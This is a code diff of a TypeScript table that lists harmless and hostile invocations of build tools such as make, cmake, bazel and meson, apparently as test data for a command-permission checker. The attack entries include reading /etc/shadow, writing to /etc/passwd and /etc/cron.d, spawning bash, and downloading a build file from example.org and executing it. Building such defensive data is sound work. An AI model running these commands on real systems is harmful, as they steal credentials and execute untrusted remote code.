@@ -2,284 +2,262 @@ import type { ExampleTable } from './example.ts'
 
 export const buildTools1: ExampleTable = {
   doit: {
-    use: 'doit -f main.py → read main.py',
-    attack: 'doit -f /etc/shadow → read /etc/shadow',
+    use: 'doit -f dodo.py build → read dodo.py',
+    attack:
+      'curl -so dodo.py https://example.org/x && doit -f dodo.py → execute ‹https://example.org/x›',
   },
   fab: {
-    use: 'fab -f main.py → read main.py',
-    attack: ['fab -f /etc/shadow → read /etc/shadow', 'fab -c /etc/shadow → read /etc/shadow'],
+    use: 'fab -f deploy.py -H web1 restart → read deploy.py',
+    attack:
+      'curl -so deploy.py https://example.org/x && fab -f deploy.py build → execute ‹https://example.org/x›',
   },
   imake: {
-    use: 'imake -f notes.txt → read notes.txt',
-    attack: ['imake -f /etc/shadow → read /etc/shadow', 'imake -T /etc/shadow → read /etc/shadow'],
+    use: 'imake -f Imakefile -s Makefile → read Imakefile; write Makefile',
+    attack: 'imake -f /etc/shadow -s out.mk → read /etc/shadow; write out.mk',
   },
   invoke: {
-    use: 'invoke → nothing',
-    attack: ['invoke -r /tmp → load /tmp', 'invoke -f /etc/shadow → read /etc/shadow'],
+    use: 'invoke test → nothing',
+    attack: 'invoke -r /tmp test → load /tmp',
   },
   jake: {
-    use: 'jake -f main.js → read main.js',
-    attack: ['jake -f /etc/shadow → read /etc/shadow', 'jake -r /tmp/x.so → load /tmp/x.so'],
+    use: 'jake -f Jakefile.js build → read Jakefile.js',
+    attack: [
+      'curl -so Jakefile.js https://example.org/x && jake -f Jakefile.js → execute ‹https://example.org/x›',
+      'jake -r /tmp/x.js build → load /tmp/x.js',
+    ],
   },
   just: {
-    use: 'just -f main.txt → read main.txt',
+    use: 'just -f ci.just build → read ci.just',
     attack: [
-      'just -f /etc/shadow → read /etc/shadow',
-      `just -c 'cat /etc/shadow' → read /etc/shadow`,
+      'just --shell=/tmp/x build → run /tmp/x',
+      'curl -so ci.just https://example.org/x && just -f ci.just → execute ‹https://example.org/x›',
     ],
   },
   mage: {
-    use: 'mage --compile=out.txt → write out.txt',
-    attack: [
-      'mage --compile=/etc/cron.d/job → write /etc/cron.d/job',
-      'mage --gocmd=/tmp/x → run /tmp/x',
-    ],
+    use: 'mage -compile ci-tool → write ci-tool',
+    attack: 'mage -gocmd /tmp/x build → run /tmp/x',
   },
   make: {
-    use: 'make all -f main.mk → read main.mk',
-    attack: 'make all -f /etc/shadow → read /etc/shadow',
+    use: 'make -f ci.mk all → read ci.mk',
+    attack: [
+      "make --eval='x:; cat /etc/shadow' x → read /etc/shadow",
+      'curl -so ci.mk https://example.org/x && make -f ci.mk → execute ‹https://example.org/x›',
+    ],
   },
   makedepend: {
-    use: 'makedepend notes.txt → read notes.txt',
-    attack: [
-      'makedepend /etc/shadow → read /etc/shadow',
-      'makedepend notes.txt -f /etc/sudoers → edit /etc/sudoers; read notes.txt',
-    ],
+    use: 'makedepend -f Makefile src/app.c → edit Makefile; read src/app.c',
+    attack: 'makedepend -f /etc/passwd src/app.c → edit /etc/passwd; read src/app.c',
   },
   mask: {
-    use: 'mask --maskfile=main.txt → read main.txt',
-    attack: 'mask --maskfile=/etc/shadow → read /etc/shadow',
+    use: 'mask --maskfile=ci.md test → read ci.md',
+    attack:
+      'curl -so ci.md https://example.org/x && mask --maskfile=ci.md test → execute ‹https://example.org/x›',
   },
   mk: {
-    use: 'mk -f main.mk → read main.mk',
-    attack: 'mk -f /etc/shadow → read /etc/shadow',
+    use: 'mk -f mkfile all → read mkfile',
+    attack:
+      'curl -so mkfile https://example.org/x && mk -f mkfile → execute ‹https://example.org/x›',
   },
   ninja: {
-    use: 'ninja -f tasks.yaml → read tasks.yaml',
-    attack: 'ninja -f /etc/shadow → read /etc/shadow',
+    use: 'ninja -f build.ninja all → read build.ninja',
+    attack:
+      'curl -so x.ninja https://example.org/x && ninja -f x.ninja → execute ‹https://example.org/x›',
   },
   nmake: {
-    use: 'nmake notes.txt -f main.mk → read main.mk',
-    attack: 'nmake notes.txt -f /etc/shadow → read /etc/shadow',
+    use: 'nmake -f Makefile.vc all → read Makefile.vc',
+    attack:
+      'curl -so Makefile.vc https://example.org/x && nmake -f Makefile.vc → execute ‹https://example.org/x›',
   },
   rake: {
-    use: 'rake -f main.rb → read main.rb',
-    attack: [
-      'rake -f /etc/shadow → read /etc/shadow',
-      `rake -e 'File.read("/etc/shadow")' → read /etc/shadow`,
-    ],
+    use: 'rake -f lib/tasks/db.rake db:migrate → read lib/tasks/db.rake',
+    attack: 'rake -e \'puts File.read("/etc/shadow")\' → read /etc/shadow',
   },
   task: {
-    use: 'task -t tasks.yaml → read tasks.yaml',
-    attack: 'task -t /etc/shadow → read /etc/shadow',
+    use: 'task -t Taskfile.ci.yml build → read Taskfile.ci.yml',
+    attack:
+      'curl -so Taskfile.yml https://example.org/x && task -t Taskfile.yml build → execute ‹https://example.org/x›',
   },
   'task execute': {
     use: 'task execute cat notes.txt → read notes.txt',
     attack: ['task execute cat /etc/shadow → read /etc/shadow', 'task execute bash → shell bash'],
   },
   whenever: {
-    use: 'whenever -f main.rb → read main.rb',
-    attack: [
-      'whenever -f /etc/shadow → read /etc/shadow',
-      'whenever --crontab-command=/tmp/x → run /tmp/x',
-    ],
+    use: 'whenever -f config/schedule.rb → read config/schedule.rb',
+    attack: 'whenever --update-crontab --crontab-command=/tmp/x → run /tmp/x',
   },
   aclocal: {
-    use: 'aclocal --output=out.txt → write out.txt',
-    attack: 'aclocal --output=/etc/cron.d/job → write /etc/cron.d/job',
+    use: 'aclocal -I m4 --output=aclocal.m4 → write aclocal.m4',
+    attack: 'aclocal --output=/etc/passwd → write /etc/passwd',
   },
   autoconf: {
-    use: 'autoconf notes.txt → read notes.txt',
+    use: 'autoconf -o configure configure.ac → read configure.ac; write configure',
     attack: [
-      'autoconf /etc/shadow → read /etc/shadow',
-      'autoconf notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'autoconf -o out.txt /etc/shadow → read /etc/shadow; write out.txt',
+      'curl -so configure.ac https://example.org/x && autoconf configure.ac → execute ‹https://example.org/x›',
     ],
   },
   autoheader: {
-    use: 'autoheader notes.txt → read notes.txt',
-    attack: 'autoheader /etc/shadow → read /etc/shadow',
+    use: 'autoheader configure.ac → read configure.ac',
+    attack:
+      'curl -so configure.ac https://example.org/x && autoheader configure.ac → execute ‹https://example.org/x›',
   },
   autom4te: {
-    use: 'autom4te -o out.txt → write out.txt',
-    attack: 'autom4te -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'autom4te -l autoconf -o configure configure.ac → read configure.ac; write configure',
+    attack: 'autom4te -l m4sugar /etc/shadow → read /etc/shadow',
   },
   autoupdate: {
-    use: 'autoupdate notes.txt → edit notes.txt',
-    attack: 'autoupdate /etc/sudoers → edit /etc/sudoers',
+    use: 'autoupdate configure.ac → edit configure.ac',
   },
   bear: {
-    use: 'bear cat notes.txt → read notes.txt',
-    attack: ['bear cat /etc/shadow → read /etc/shadow', 'bear bash → shell bash'],
+    use: 'bear -o compile_commands.json -- make all → write compile_commands.json',
+    attack: ['bear -l /tmp/x.so -- make all → load /tmp/x.so', 'bear -- bash → shell bash'],
   },
   bjam: {
-    use: 'bjam -f notes.txt → read notes.txt',
-    attack: 'bjam -f /etc/shadow → read /etc/shadow',
+    use: 'bjam -f Jamfile release → read Jamfile',
+    attack:
+      'curl -so Jamfile https://example.org/x && bjam -f Jamfile → execute ‹https://example.org/x›',
   },
   ccache: {
-    use: 'ccache cat notes.txt → read notes.txt',
+    use: 'ccache gcc -c app.c → read app.c; write app.o',
     attack: ['ccache cat /etc/shadow → read /etc/shadow', 'ccache bash → shell bash'],
   },
   cmake: {
-    use: 'cmake . -P main.txt → read main.txt',
+    use: 'cmake -P ci.cmake → read ci.cmake',
     attack: [
-      'cmake . -P /etc/shadow → read /etc/shadow',
-      'cmake . -C /etc/shadow → read /etc/shadow',
+      'cmake -E cat /etc/shadow → read /etc/shadow',
+      'curl -so ci.cmake https://example.org/x && cmake -P ci.cmake → execute ‹https://example.org/x›',
     ],
   },
   compiledb: {
-    use: 'compiledb cat notes.txt → read notes.txt',
-    attack: ['compiledb cat /etc/shadow → read /etc/shadow', 'compiledb bash → shell bash'],
+    use: 'compiledb -o compile_commands.json make all → write compile_commands.json',
+    attack: ['compiledb -p /etc/shadow → read /etc/shadow', 'compiledb bash → shell bash'],
   },
   cpack: {
-    use: 'cpack --config=main.txt → read main.txt',
-    attack: 'cpack --config=/etc/shadow → read /etc/shadow',
+    use: 'cpack -G DEB --config build/CPackConfig.cmake → read build/CPackConfig.cmake',
+    attack:
+      'curl -so pack.cmake https://example.org/x && cpack --config pack.cmake → execute ‹https://example.org/x›',
   },
   ctest: {
-    use: 'ctest -S main.txt → read main.txt',
-    attack: [
-      'ctest -S /etc/shadow → read /etc/shadow',
-      'ctest -O /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'ctest -S ci.cmake → read ci.cmake',
+    attack:
+      'curl -so ci.cmake https://example.org/x && ctest -S ci.cmake → execute ‹https://example.org/x›',
   },
   distcc: {
-    use: 'distcc cat notes.txt → read notes.txt',
+    use: 'distcc gcc -c app.c → read app.c; write app.o',
     attack: ['distcc cat /etc/shadow → read /etc/shadow', 'distcc bash → shell bash'],
   },
   'gn gen': {
-    use: 'gn gen out → nothing',
-    attack: [
-      'gn gen out --script-executable=/tmp/x → run /tmp/x',
-      'gn gen out --dotfile=/etc/shadow → read /etc/shadow',
-    ],
+    use: 'gn gen out/Release --args=is_debug=false → nothing',
+    attack: 'gn gen out/Release --script-executable=/tmp/x → run /tmp/x',
   },
   gyp: {
-    use: 'gyp notes.txt → read notes.txt',
-    attack: [
-      'gyp /etc/shadow → read /etc/shadow',
-      'gyp notes.txt -I /etc/shadow → read /etc/shadow; read notes.txt',
-    ],
+    use: 'gyp app.gyp --depth=. -f ninja → read app.gyp',
+    attack:
+      'curl -so app.gyp https://example.org/x && gyp app.gyp --depth=. → execute ‹https://example.org/x›',
   },
   icecc: {
-    use: 'icecc cat notes.txt → read notes.txt',
+    use: 'icecc gcc -c app.c → read app.c; write app.o',
     attack: ['icecc cat /etc/shadow → read /etc/shadow', 'icecc bash → shell bash'],
   },
   ifnames: {
-    use: 'ifnames notes.txt → read notes.txt',
-    attack: 'ifnames /etc/shadow → read /etc/shadow',
+    use: 'ifnames src/app.c → use src/app.c',
   },
   'intercept-build': {
-    use: 'intercept-build cat notes.txt → read notes.txt',
-    attack: [
-      'intercept-build cat /etc/shadow → read /etc/shadow',
-      'intercept-build bash → shell bash',
-    ],
+    use: 'intercept-build --cdb=compile_commands.json make all → write compile_commands.json',
+    attack: 'intercept-build bash → shell bash',
   },
   'meson devenv': {
-    use: 'meson devenv cat notes.txt → read notes.txt',
-    attack: ['meson devenv cat /etc/shadow → read /etc/shadow', 'meson devenv bash → shell bash'],
+    use: 'meson devenv -C build cat notes.txt → read notes.txt',
+    attack: [
+      'meson devenv -C build cat /etc/shadow → read /etc/shadow',
+      'meson devenv -C build bash → shell bash',
+    ],
   },
   'meson setup': {
-    use: 'meson setup build --native-file=notes.txt → read notes.txt',
-    attack: [
-      'meson setup build --native-file=/etc/shadow → read /etc/shadow',
-      'meson setup build --cross-file=/etc/shadow → read /etc/shadow',
-    ],
+    use: 'meson setup build --native-file=clang.ini → read clang.ini',
+    attack: 'meson setup build --native-file=/etc/shadow → read /etc/shadow',
   },
   'meson test': {
-    use: `meson test --wrapper='cat notes.txt' → read notes.txt`,
-    attack: [
-      'meson test --wrapper=/tmp/x → run /tmp/x',
-      `meson test --wrapper='cat /etc/shadow' → read /etc/shadow`,
-    ],
+    use: "meson test -C build --wrapper='valgrind --error-exitcode=1' → nothing",
+    attack: 'meson test -C build --wrapper=/tmp/x → run /tmp/x',
   },
   'node-gyp': {
-    use: 'node-gyp --dist-url=https://example.org/x → fetch https://example.org/x',
-    attack: 'node-gyp --make=/tmp/x → run /tmp/x',
+    use: 'node-gyp install --dist-url=https://nodejs.org/dist → fetch https://nodejs.org/dist',
+    attack: 'node-gyp rebuild --make=/tmp/x → run /tmp/x',
   },
   premake5: {
-    use: 'premake5 --file=main.lua → read main.lua',
+    use: 'premake5 --file=premake5.lua gmake2 → read premake5.lua',
     attack: [
-      'premake5 --file=/etc/shadow → read /etc/shadow',
-      'premake5 --scripts=/tmp → load /tmp',
+      'curl -so p.lua https://example.org/x && premake5 --file=p.lua gmake2 → execute ‹https://example.org/x›',
+      'premake5 --scripts=/tmp gmake2 → load /tmp',
     ],
   },
   'qbs shell': {
-    use: 'qbs shell cat notes.txt → read notes.txt',
-    attack: ['qbs shell cat /etc/shadow → read /etc/shadow', 'qbs shell bash → shell bash'],
+    attack: 'qbs shell → shell qbs shell',
   },
   qmake: {
-    use: 'qmake app.pro -o out.txt → write out.txt',
-    attack: 'qmake app.pro -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'qmake -o Makefile app.pro → read app.pro; write Makefile',
+    attack:
+      'curl -so app.pro https://example.org/x && qmake app.pro → execute ‹https://example.org/x›',
   },
   sccache: {
-    use: 'sccache cat notes.txt → read notes.txt',
+    use: 'sccache gcc -c app.c → read app.c; write app.o',
     attack: ['sccache cat /etc/shadow → read /etc/shadow', 'sccache bash → shell bash'],
   },
   scons: {
-    use: 'scons -f main.py → read main.py',
-    attack: 'scons -f /etc/shadow → read /etc/shadow',
+    use: 'scons -f SConstruct.ci → read SConstruct.ci',
+    attack:
+      'curl -so SConstruct https://example.org/x && scons -f SConstruct → execute ‹https://example.org/x›',
   },
   xmake: {
-    use: 'xmake -F main.lua → read main.lua',
-    attack: 'xmake -F /etc/shadow → read /etc/shadow',
+    use: 'xmake -F xmake.lua → read xmake.lua',
+    attack:
+      'curl -so x.lua https://example.org/x && xmake -F x.lua → execute ‹https://example.org/x›',
   },
   'xmake lua': {
-    use: 'xmake lua main.lua → read main.lua',
-    attack: [
-      'xmake lua /etc/shadow → read /etc/shadow',
-      `xmake lua -c 'os.execute("/tmp/x")' main.lua → run /tmp/x`,
-    ],
+    use: 'xmake lua scripts/version.lua → read scripts/version.lua',
+    attack: 'xmake lua -c \'os.execute("/tmp/x")\' → run /tmp/x',
   },
   bazel: {
-    use: `bazel --run_under='cat notes.txt' → read notes.txt`,
-    attack: [
-      'bazel --run_under=/tmp/x → run /tmp/x',
-      `bazel --run_under='cat /etc/shadow' → read /etc/shadow`,
-    ],
+    use: "bazel test --run_under='valgrind -q' //app:test → nothing",
+    attack: 'bazel run --run_under=/tmp/x //app → run /tmp/x',
   },
   bitbake: {
-    use: 'bitbake -b main.py → read main.py',
-    attack: [
-      'bitbake -b /etc/shadow → read /etc/shadow',
-      'bitbake -R /etc/shadow → read /etc/shadow',
-    ],
+    use: 'bitbake -b recipes/app.bb → read recipes/app.bb',
+    attack:
+      'curl -so app.bb https://example.org/x && bitbake -b app.bb → execute ‹https://example.org/x›',
   },
   buck2: {
-    use: 'buck2 --config-file=app.conf → read app.conf',
-    attack: 'buck2 --config-file=/etc/shadow → read /etc/shadow',
+    use: 'buck2 build --config-file=ci.buckconfig //app:app → read ci.buckconfig',
+    attack: 'buck2 build --config-file=/etc/shadow //app:app → read /etc/shadow',
   },
   checkinstall: {
-    use: 'checkinstall cat notes.txt → read notes.txt',
-    attack: ['checkinstall cat /etc/shadow → read /etc/shadow', 'checkinstall bash → shell bash'],
+    use: 'checkinstall --pkgname=app make install → nothing',
+    attack: 'checkinstall bash → shell bash',
   },
   commitlint: {
-    use: 'commitlint -g app.conf → read app.conf',
-    attack: 'commitlint -g /etc/shadow → read /etc/shadow',
+    use: 'commitlint -g commitlint.config.js --from main → read commitlint.config.js',
+    attack:
+      'curl -so c.js https://example.org/x && commitlint -g c.js --from main → execute ‹https://example.org/x›',
   },
   cookiecutter: {
-    use: 'cookiecutter template --config-file=app.conf → read app.conf',
-    attack: 'cookiecutter template --config-file=/etc/shadow → read /etc/shadow',
+    use: 'cookiecutter -o projects template → unpack projects',
+    attack: 'cookiecutter -o /etc/cron.d template → unpack /etc/cron.d',
   },
   'dagger call': {
-    use: 'dagger call -o out.txt → write out.txt',
-    attack: 'dagger call -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'dagger call build -o out/app → write out/app',
+    attack: 'dagger call build -o /etc/cron.d/job → write /etc/cron.d/job',
   },
   'dagger run': {
     use: 'dagger run cat notes.txt → read notes.txt',
-    attack: ['dagger run cat /etc/shadow → read /etc/shadow', 'dagger run bash → shell bash'],
+    attack: 'dagger run bash → shell bash',
   },
   'dagger shell': {
-    use: 'dagger shell main.sh → read main.sh',
-    attack: [
-      'dagger shell /etc/shadow → read /etc/shadow',
-      `dagger shell -c 'cat /etc/shadow' main.sh → read /etc/shadow`,
-    ],
+    use: 'dagger shell build.dsh → read build.dsh',
+    attack: "dagger shell -c 'host | file /etc/shadow | contents' → read /etc/shadow",
   },
   earthly: {
-    use: 'earthly notes.txt → nothing',
-    attack: [
-      'earthly notes.txt --config=/etc/shadow → read /etc/shadow',
-      'earthly notes.txt -P → privilege earthly',
-    ],
+    use: 'earthly +build → nothing',
+    attack: 'earthly -P +build → privilege earthly',
   },
 }
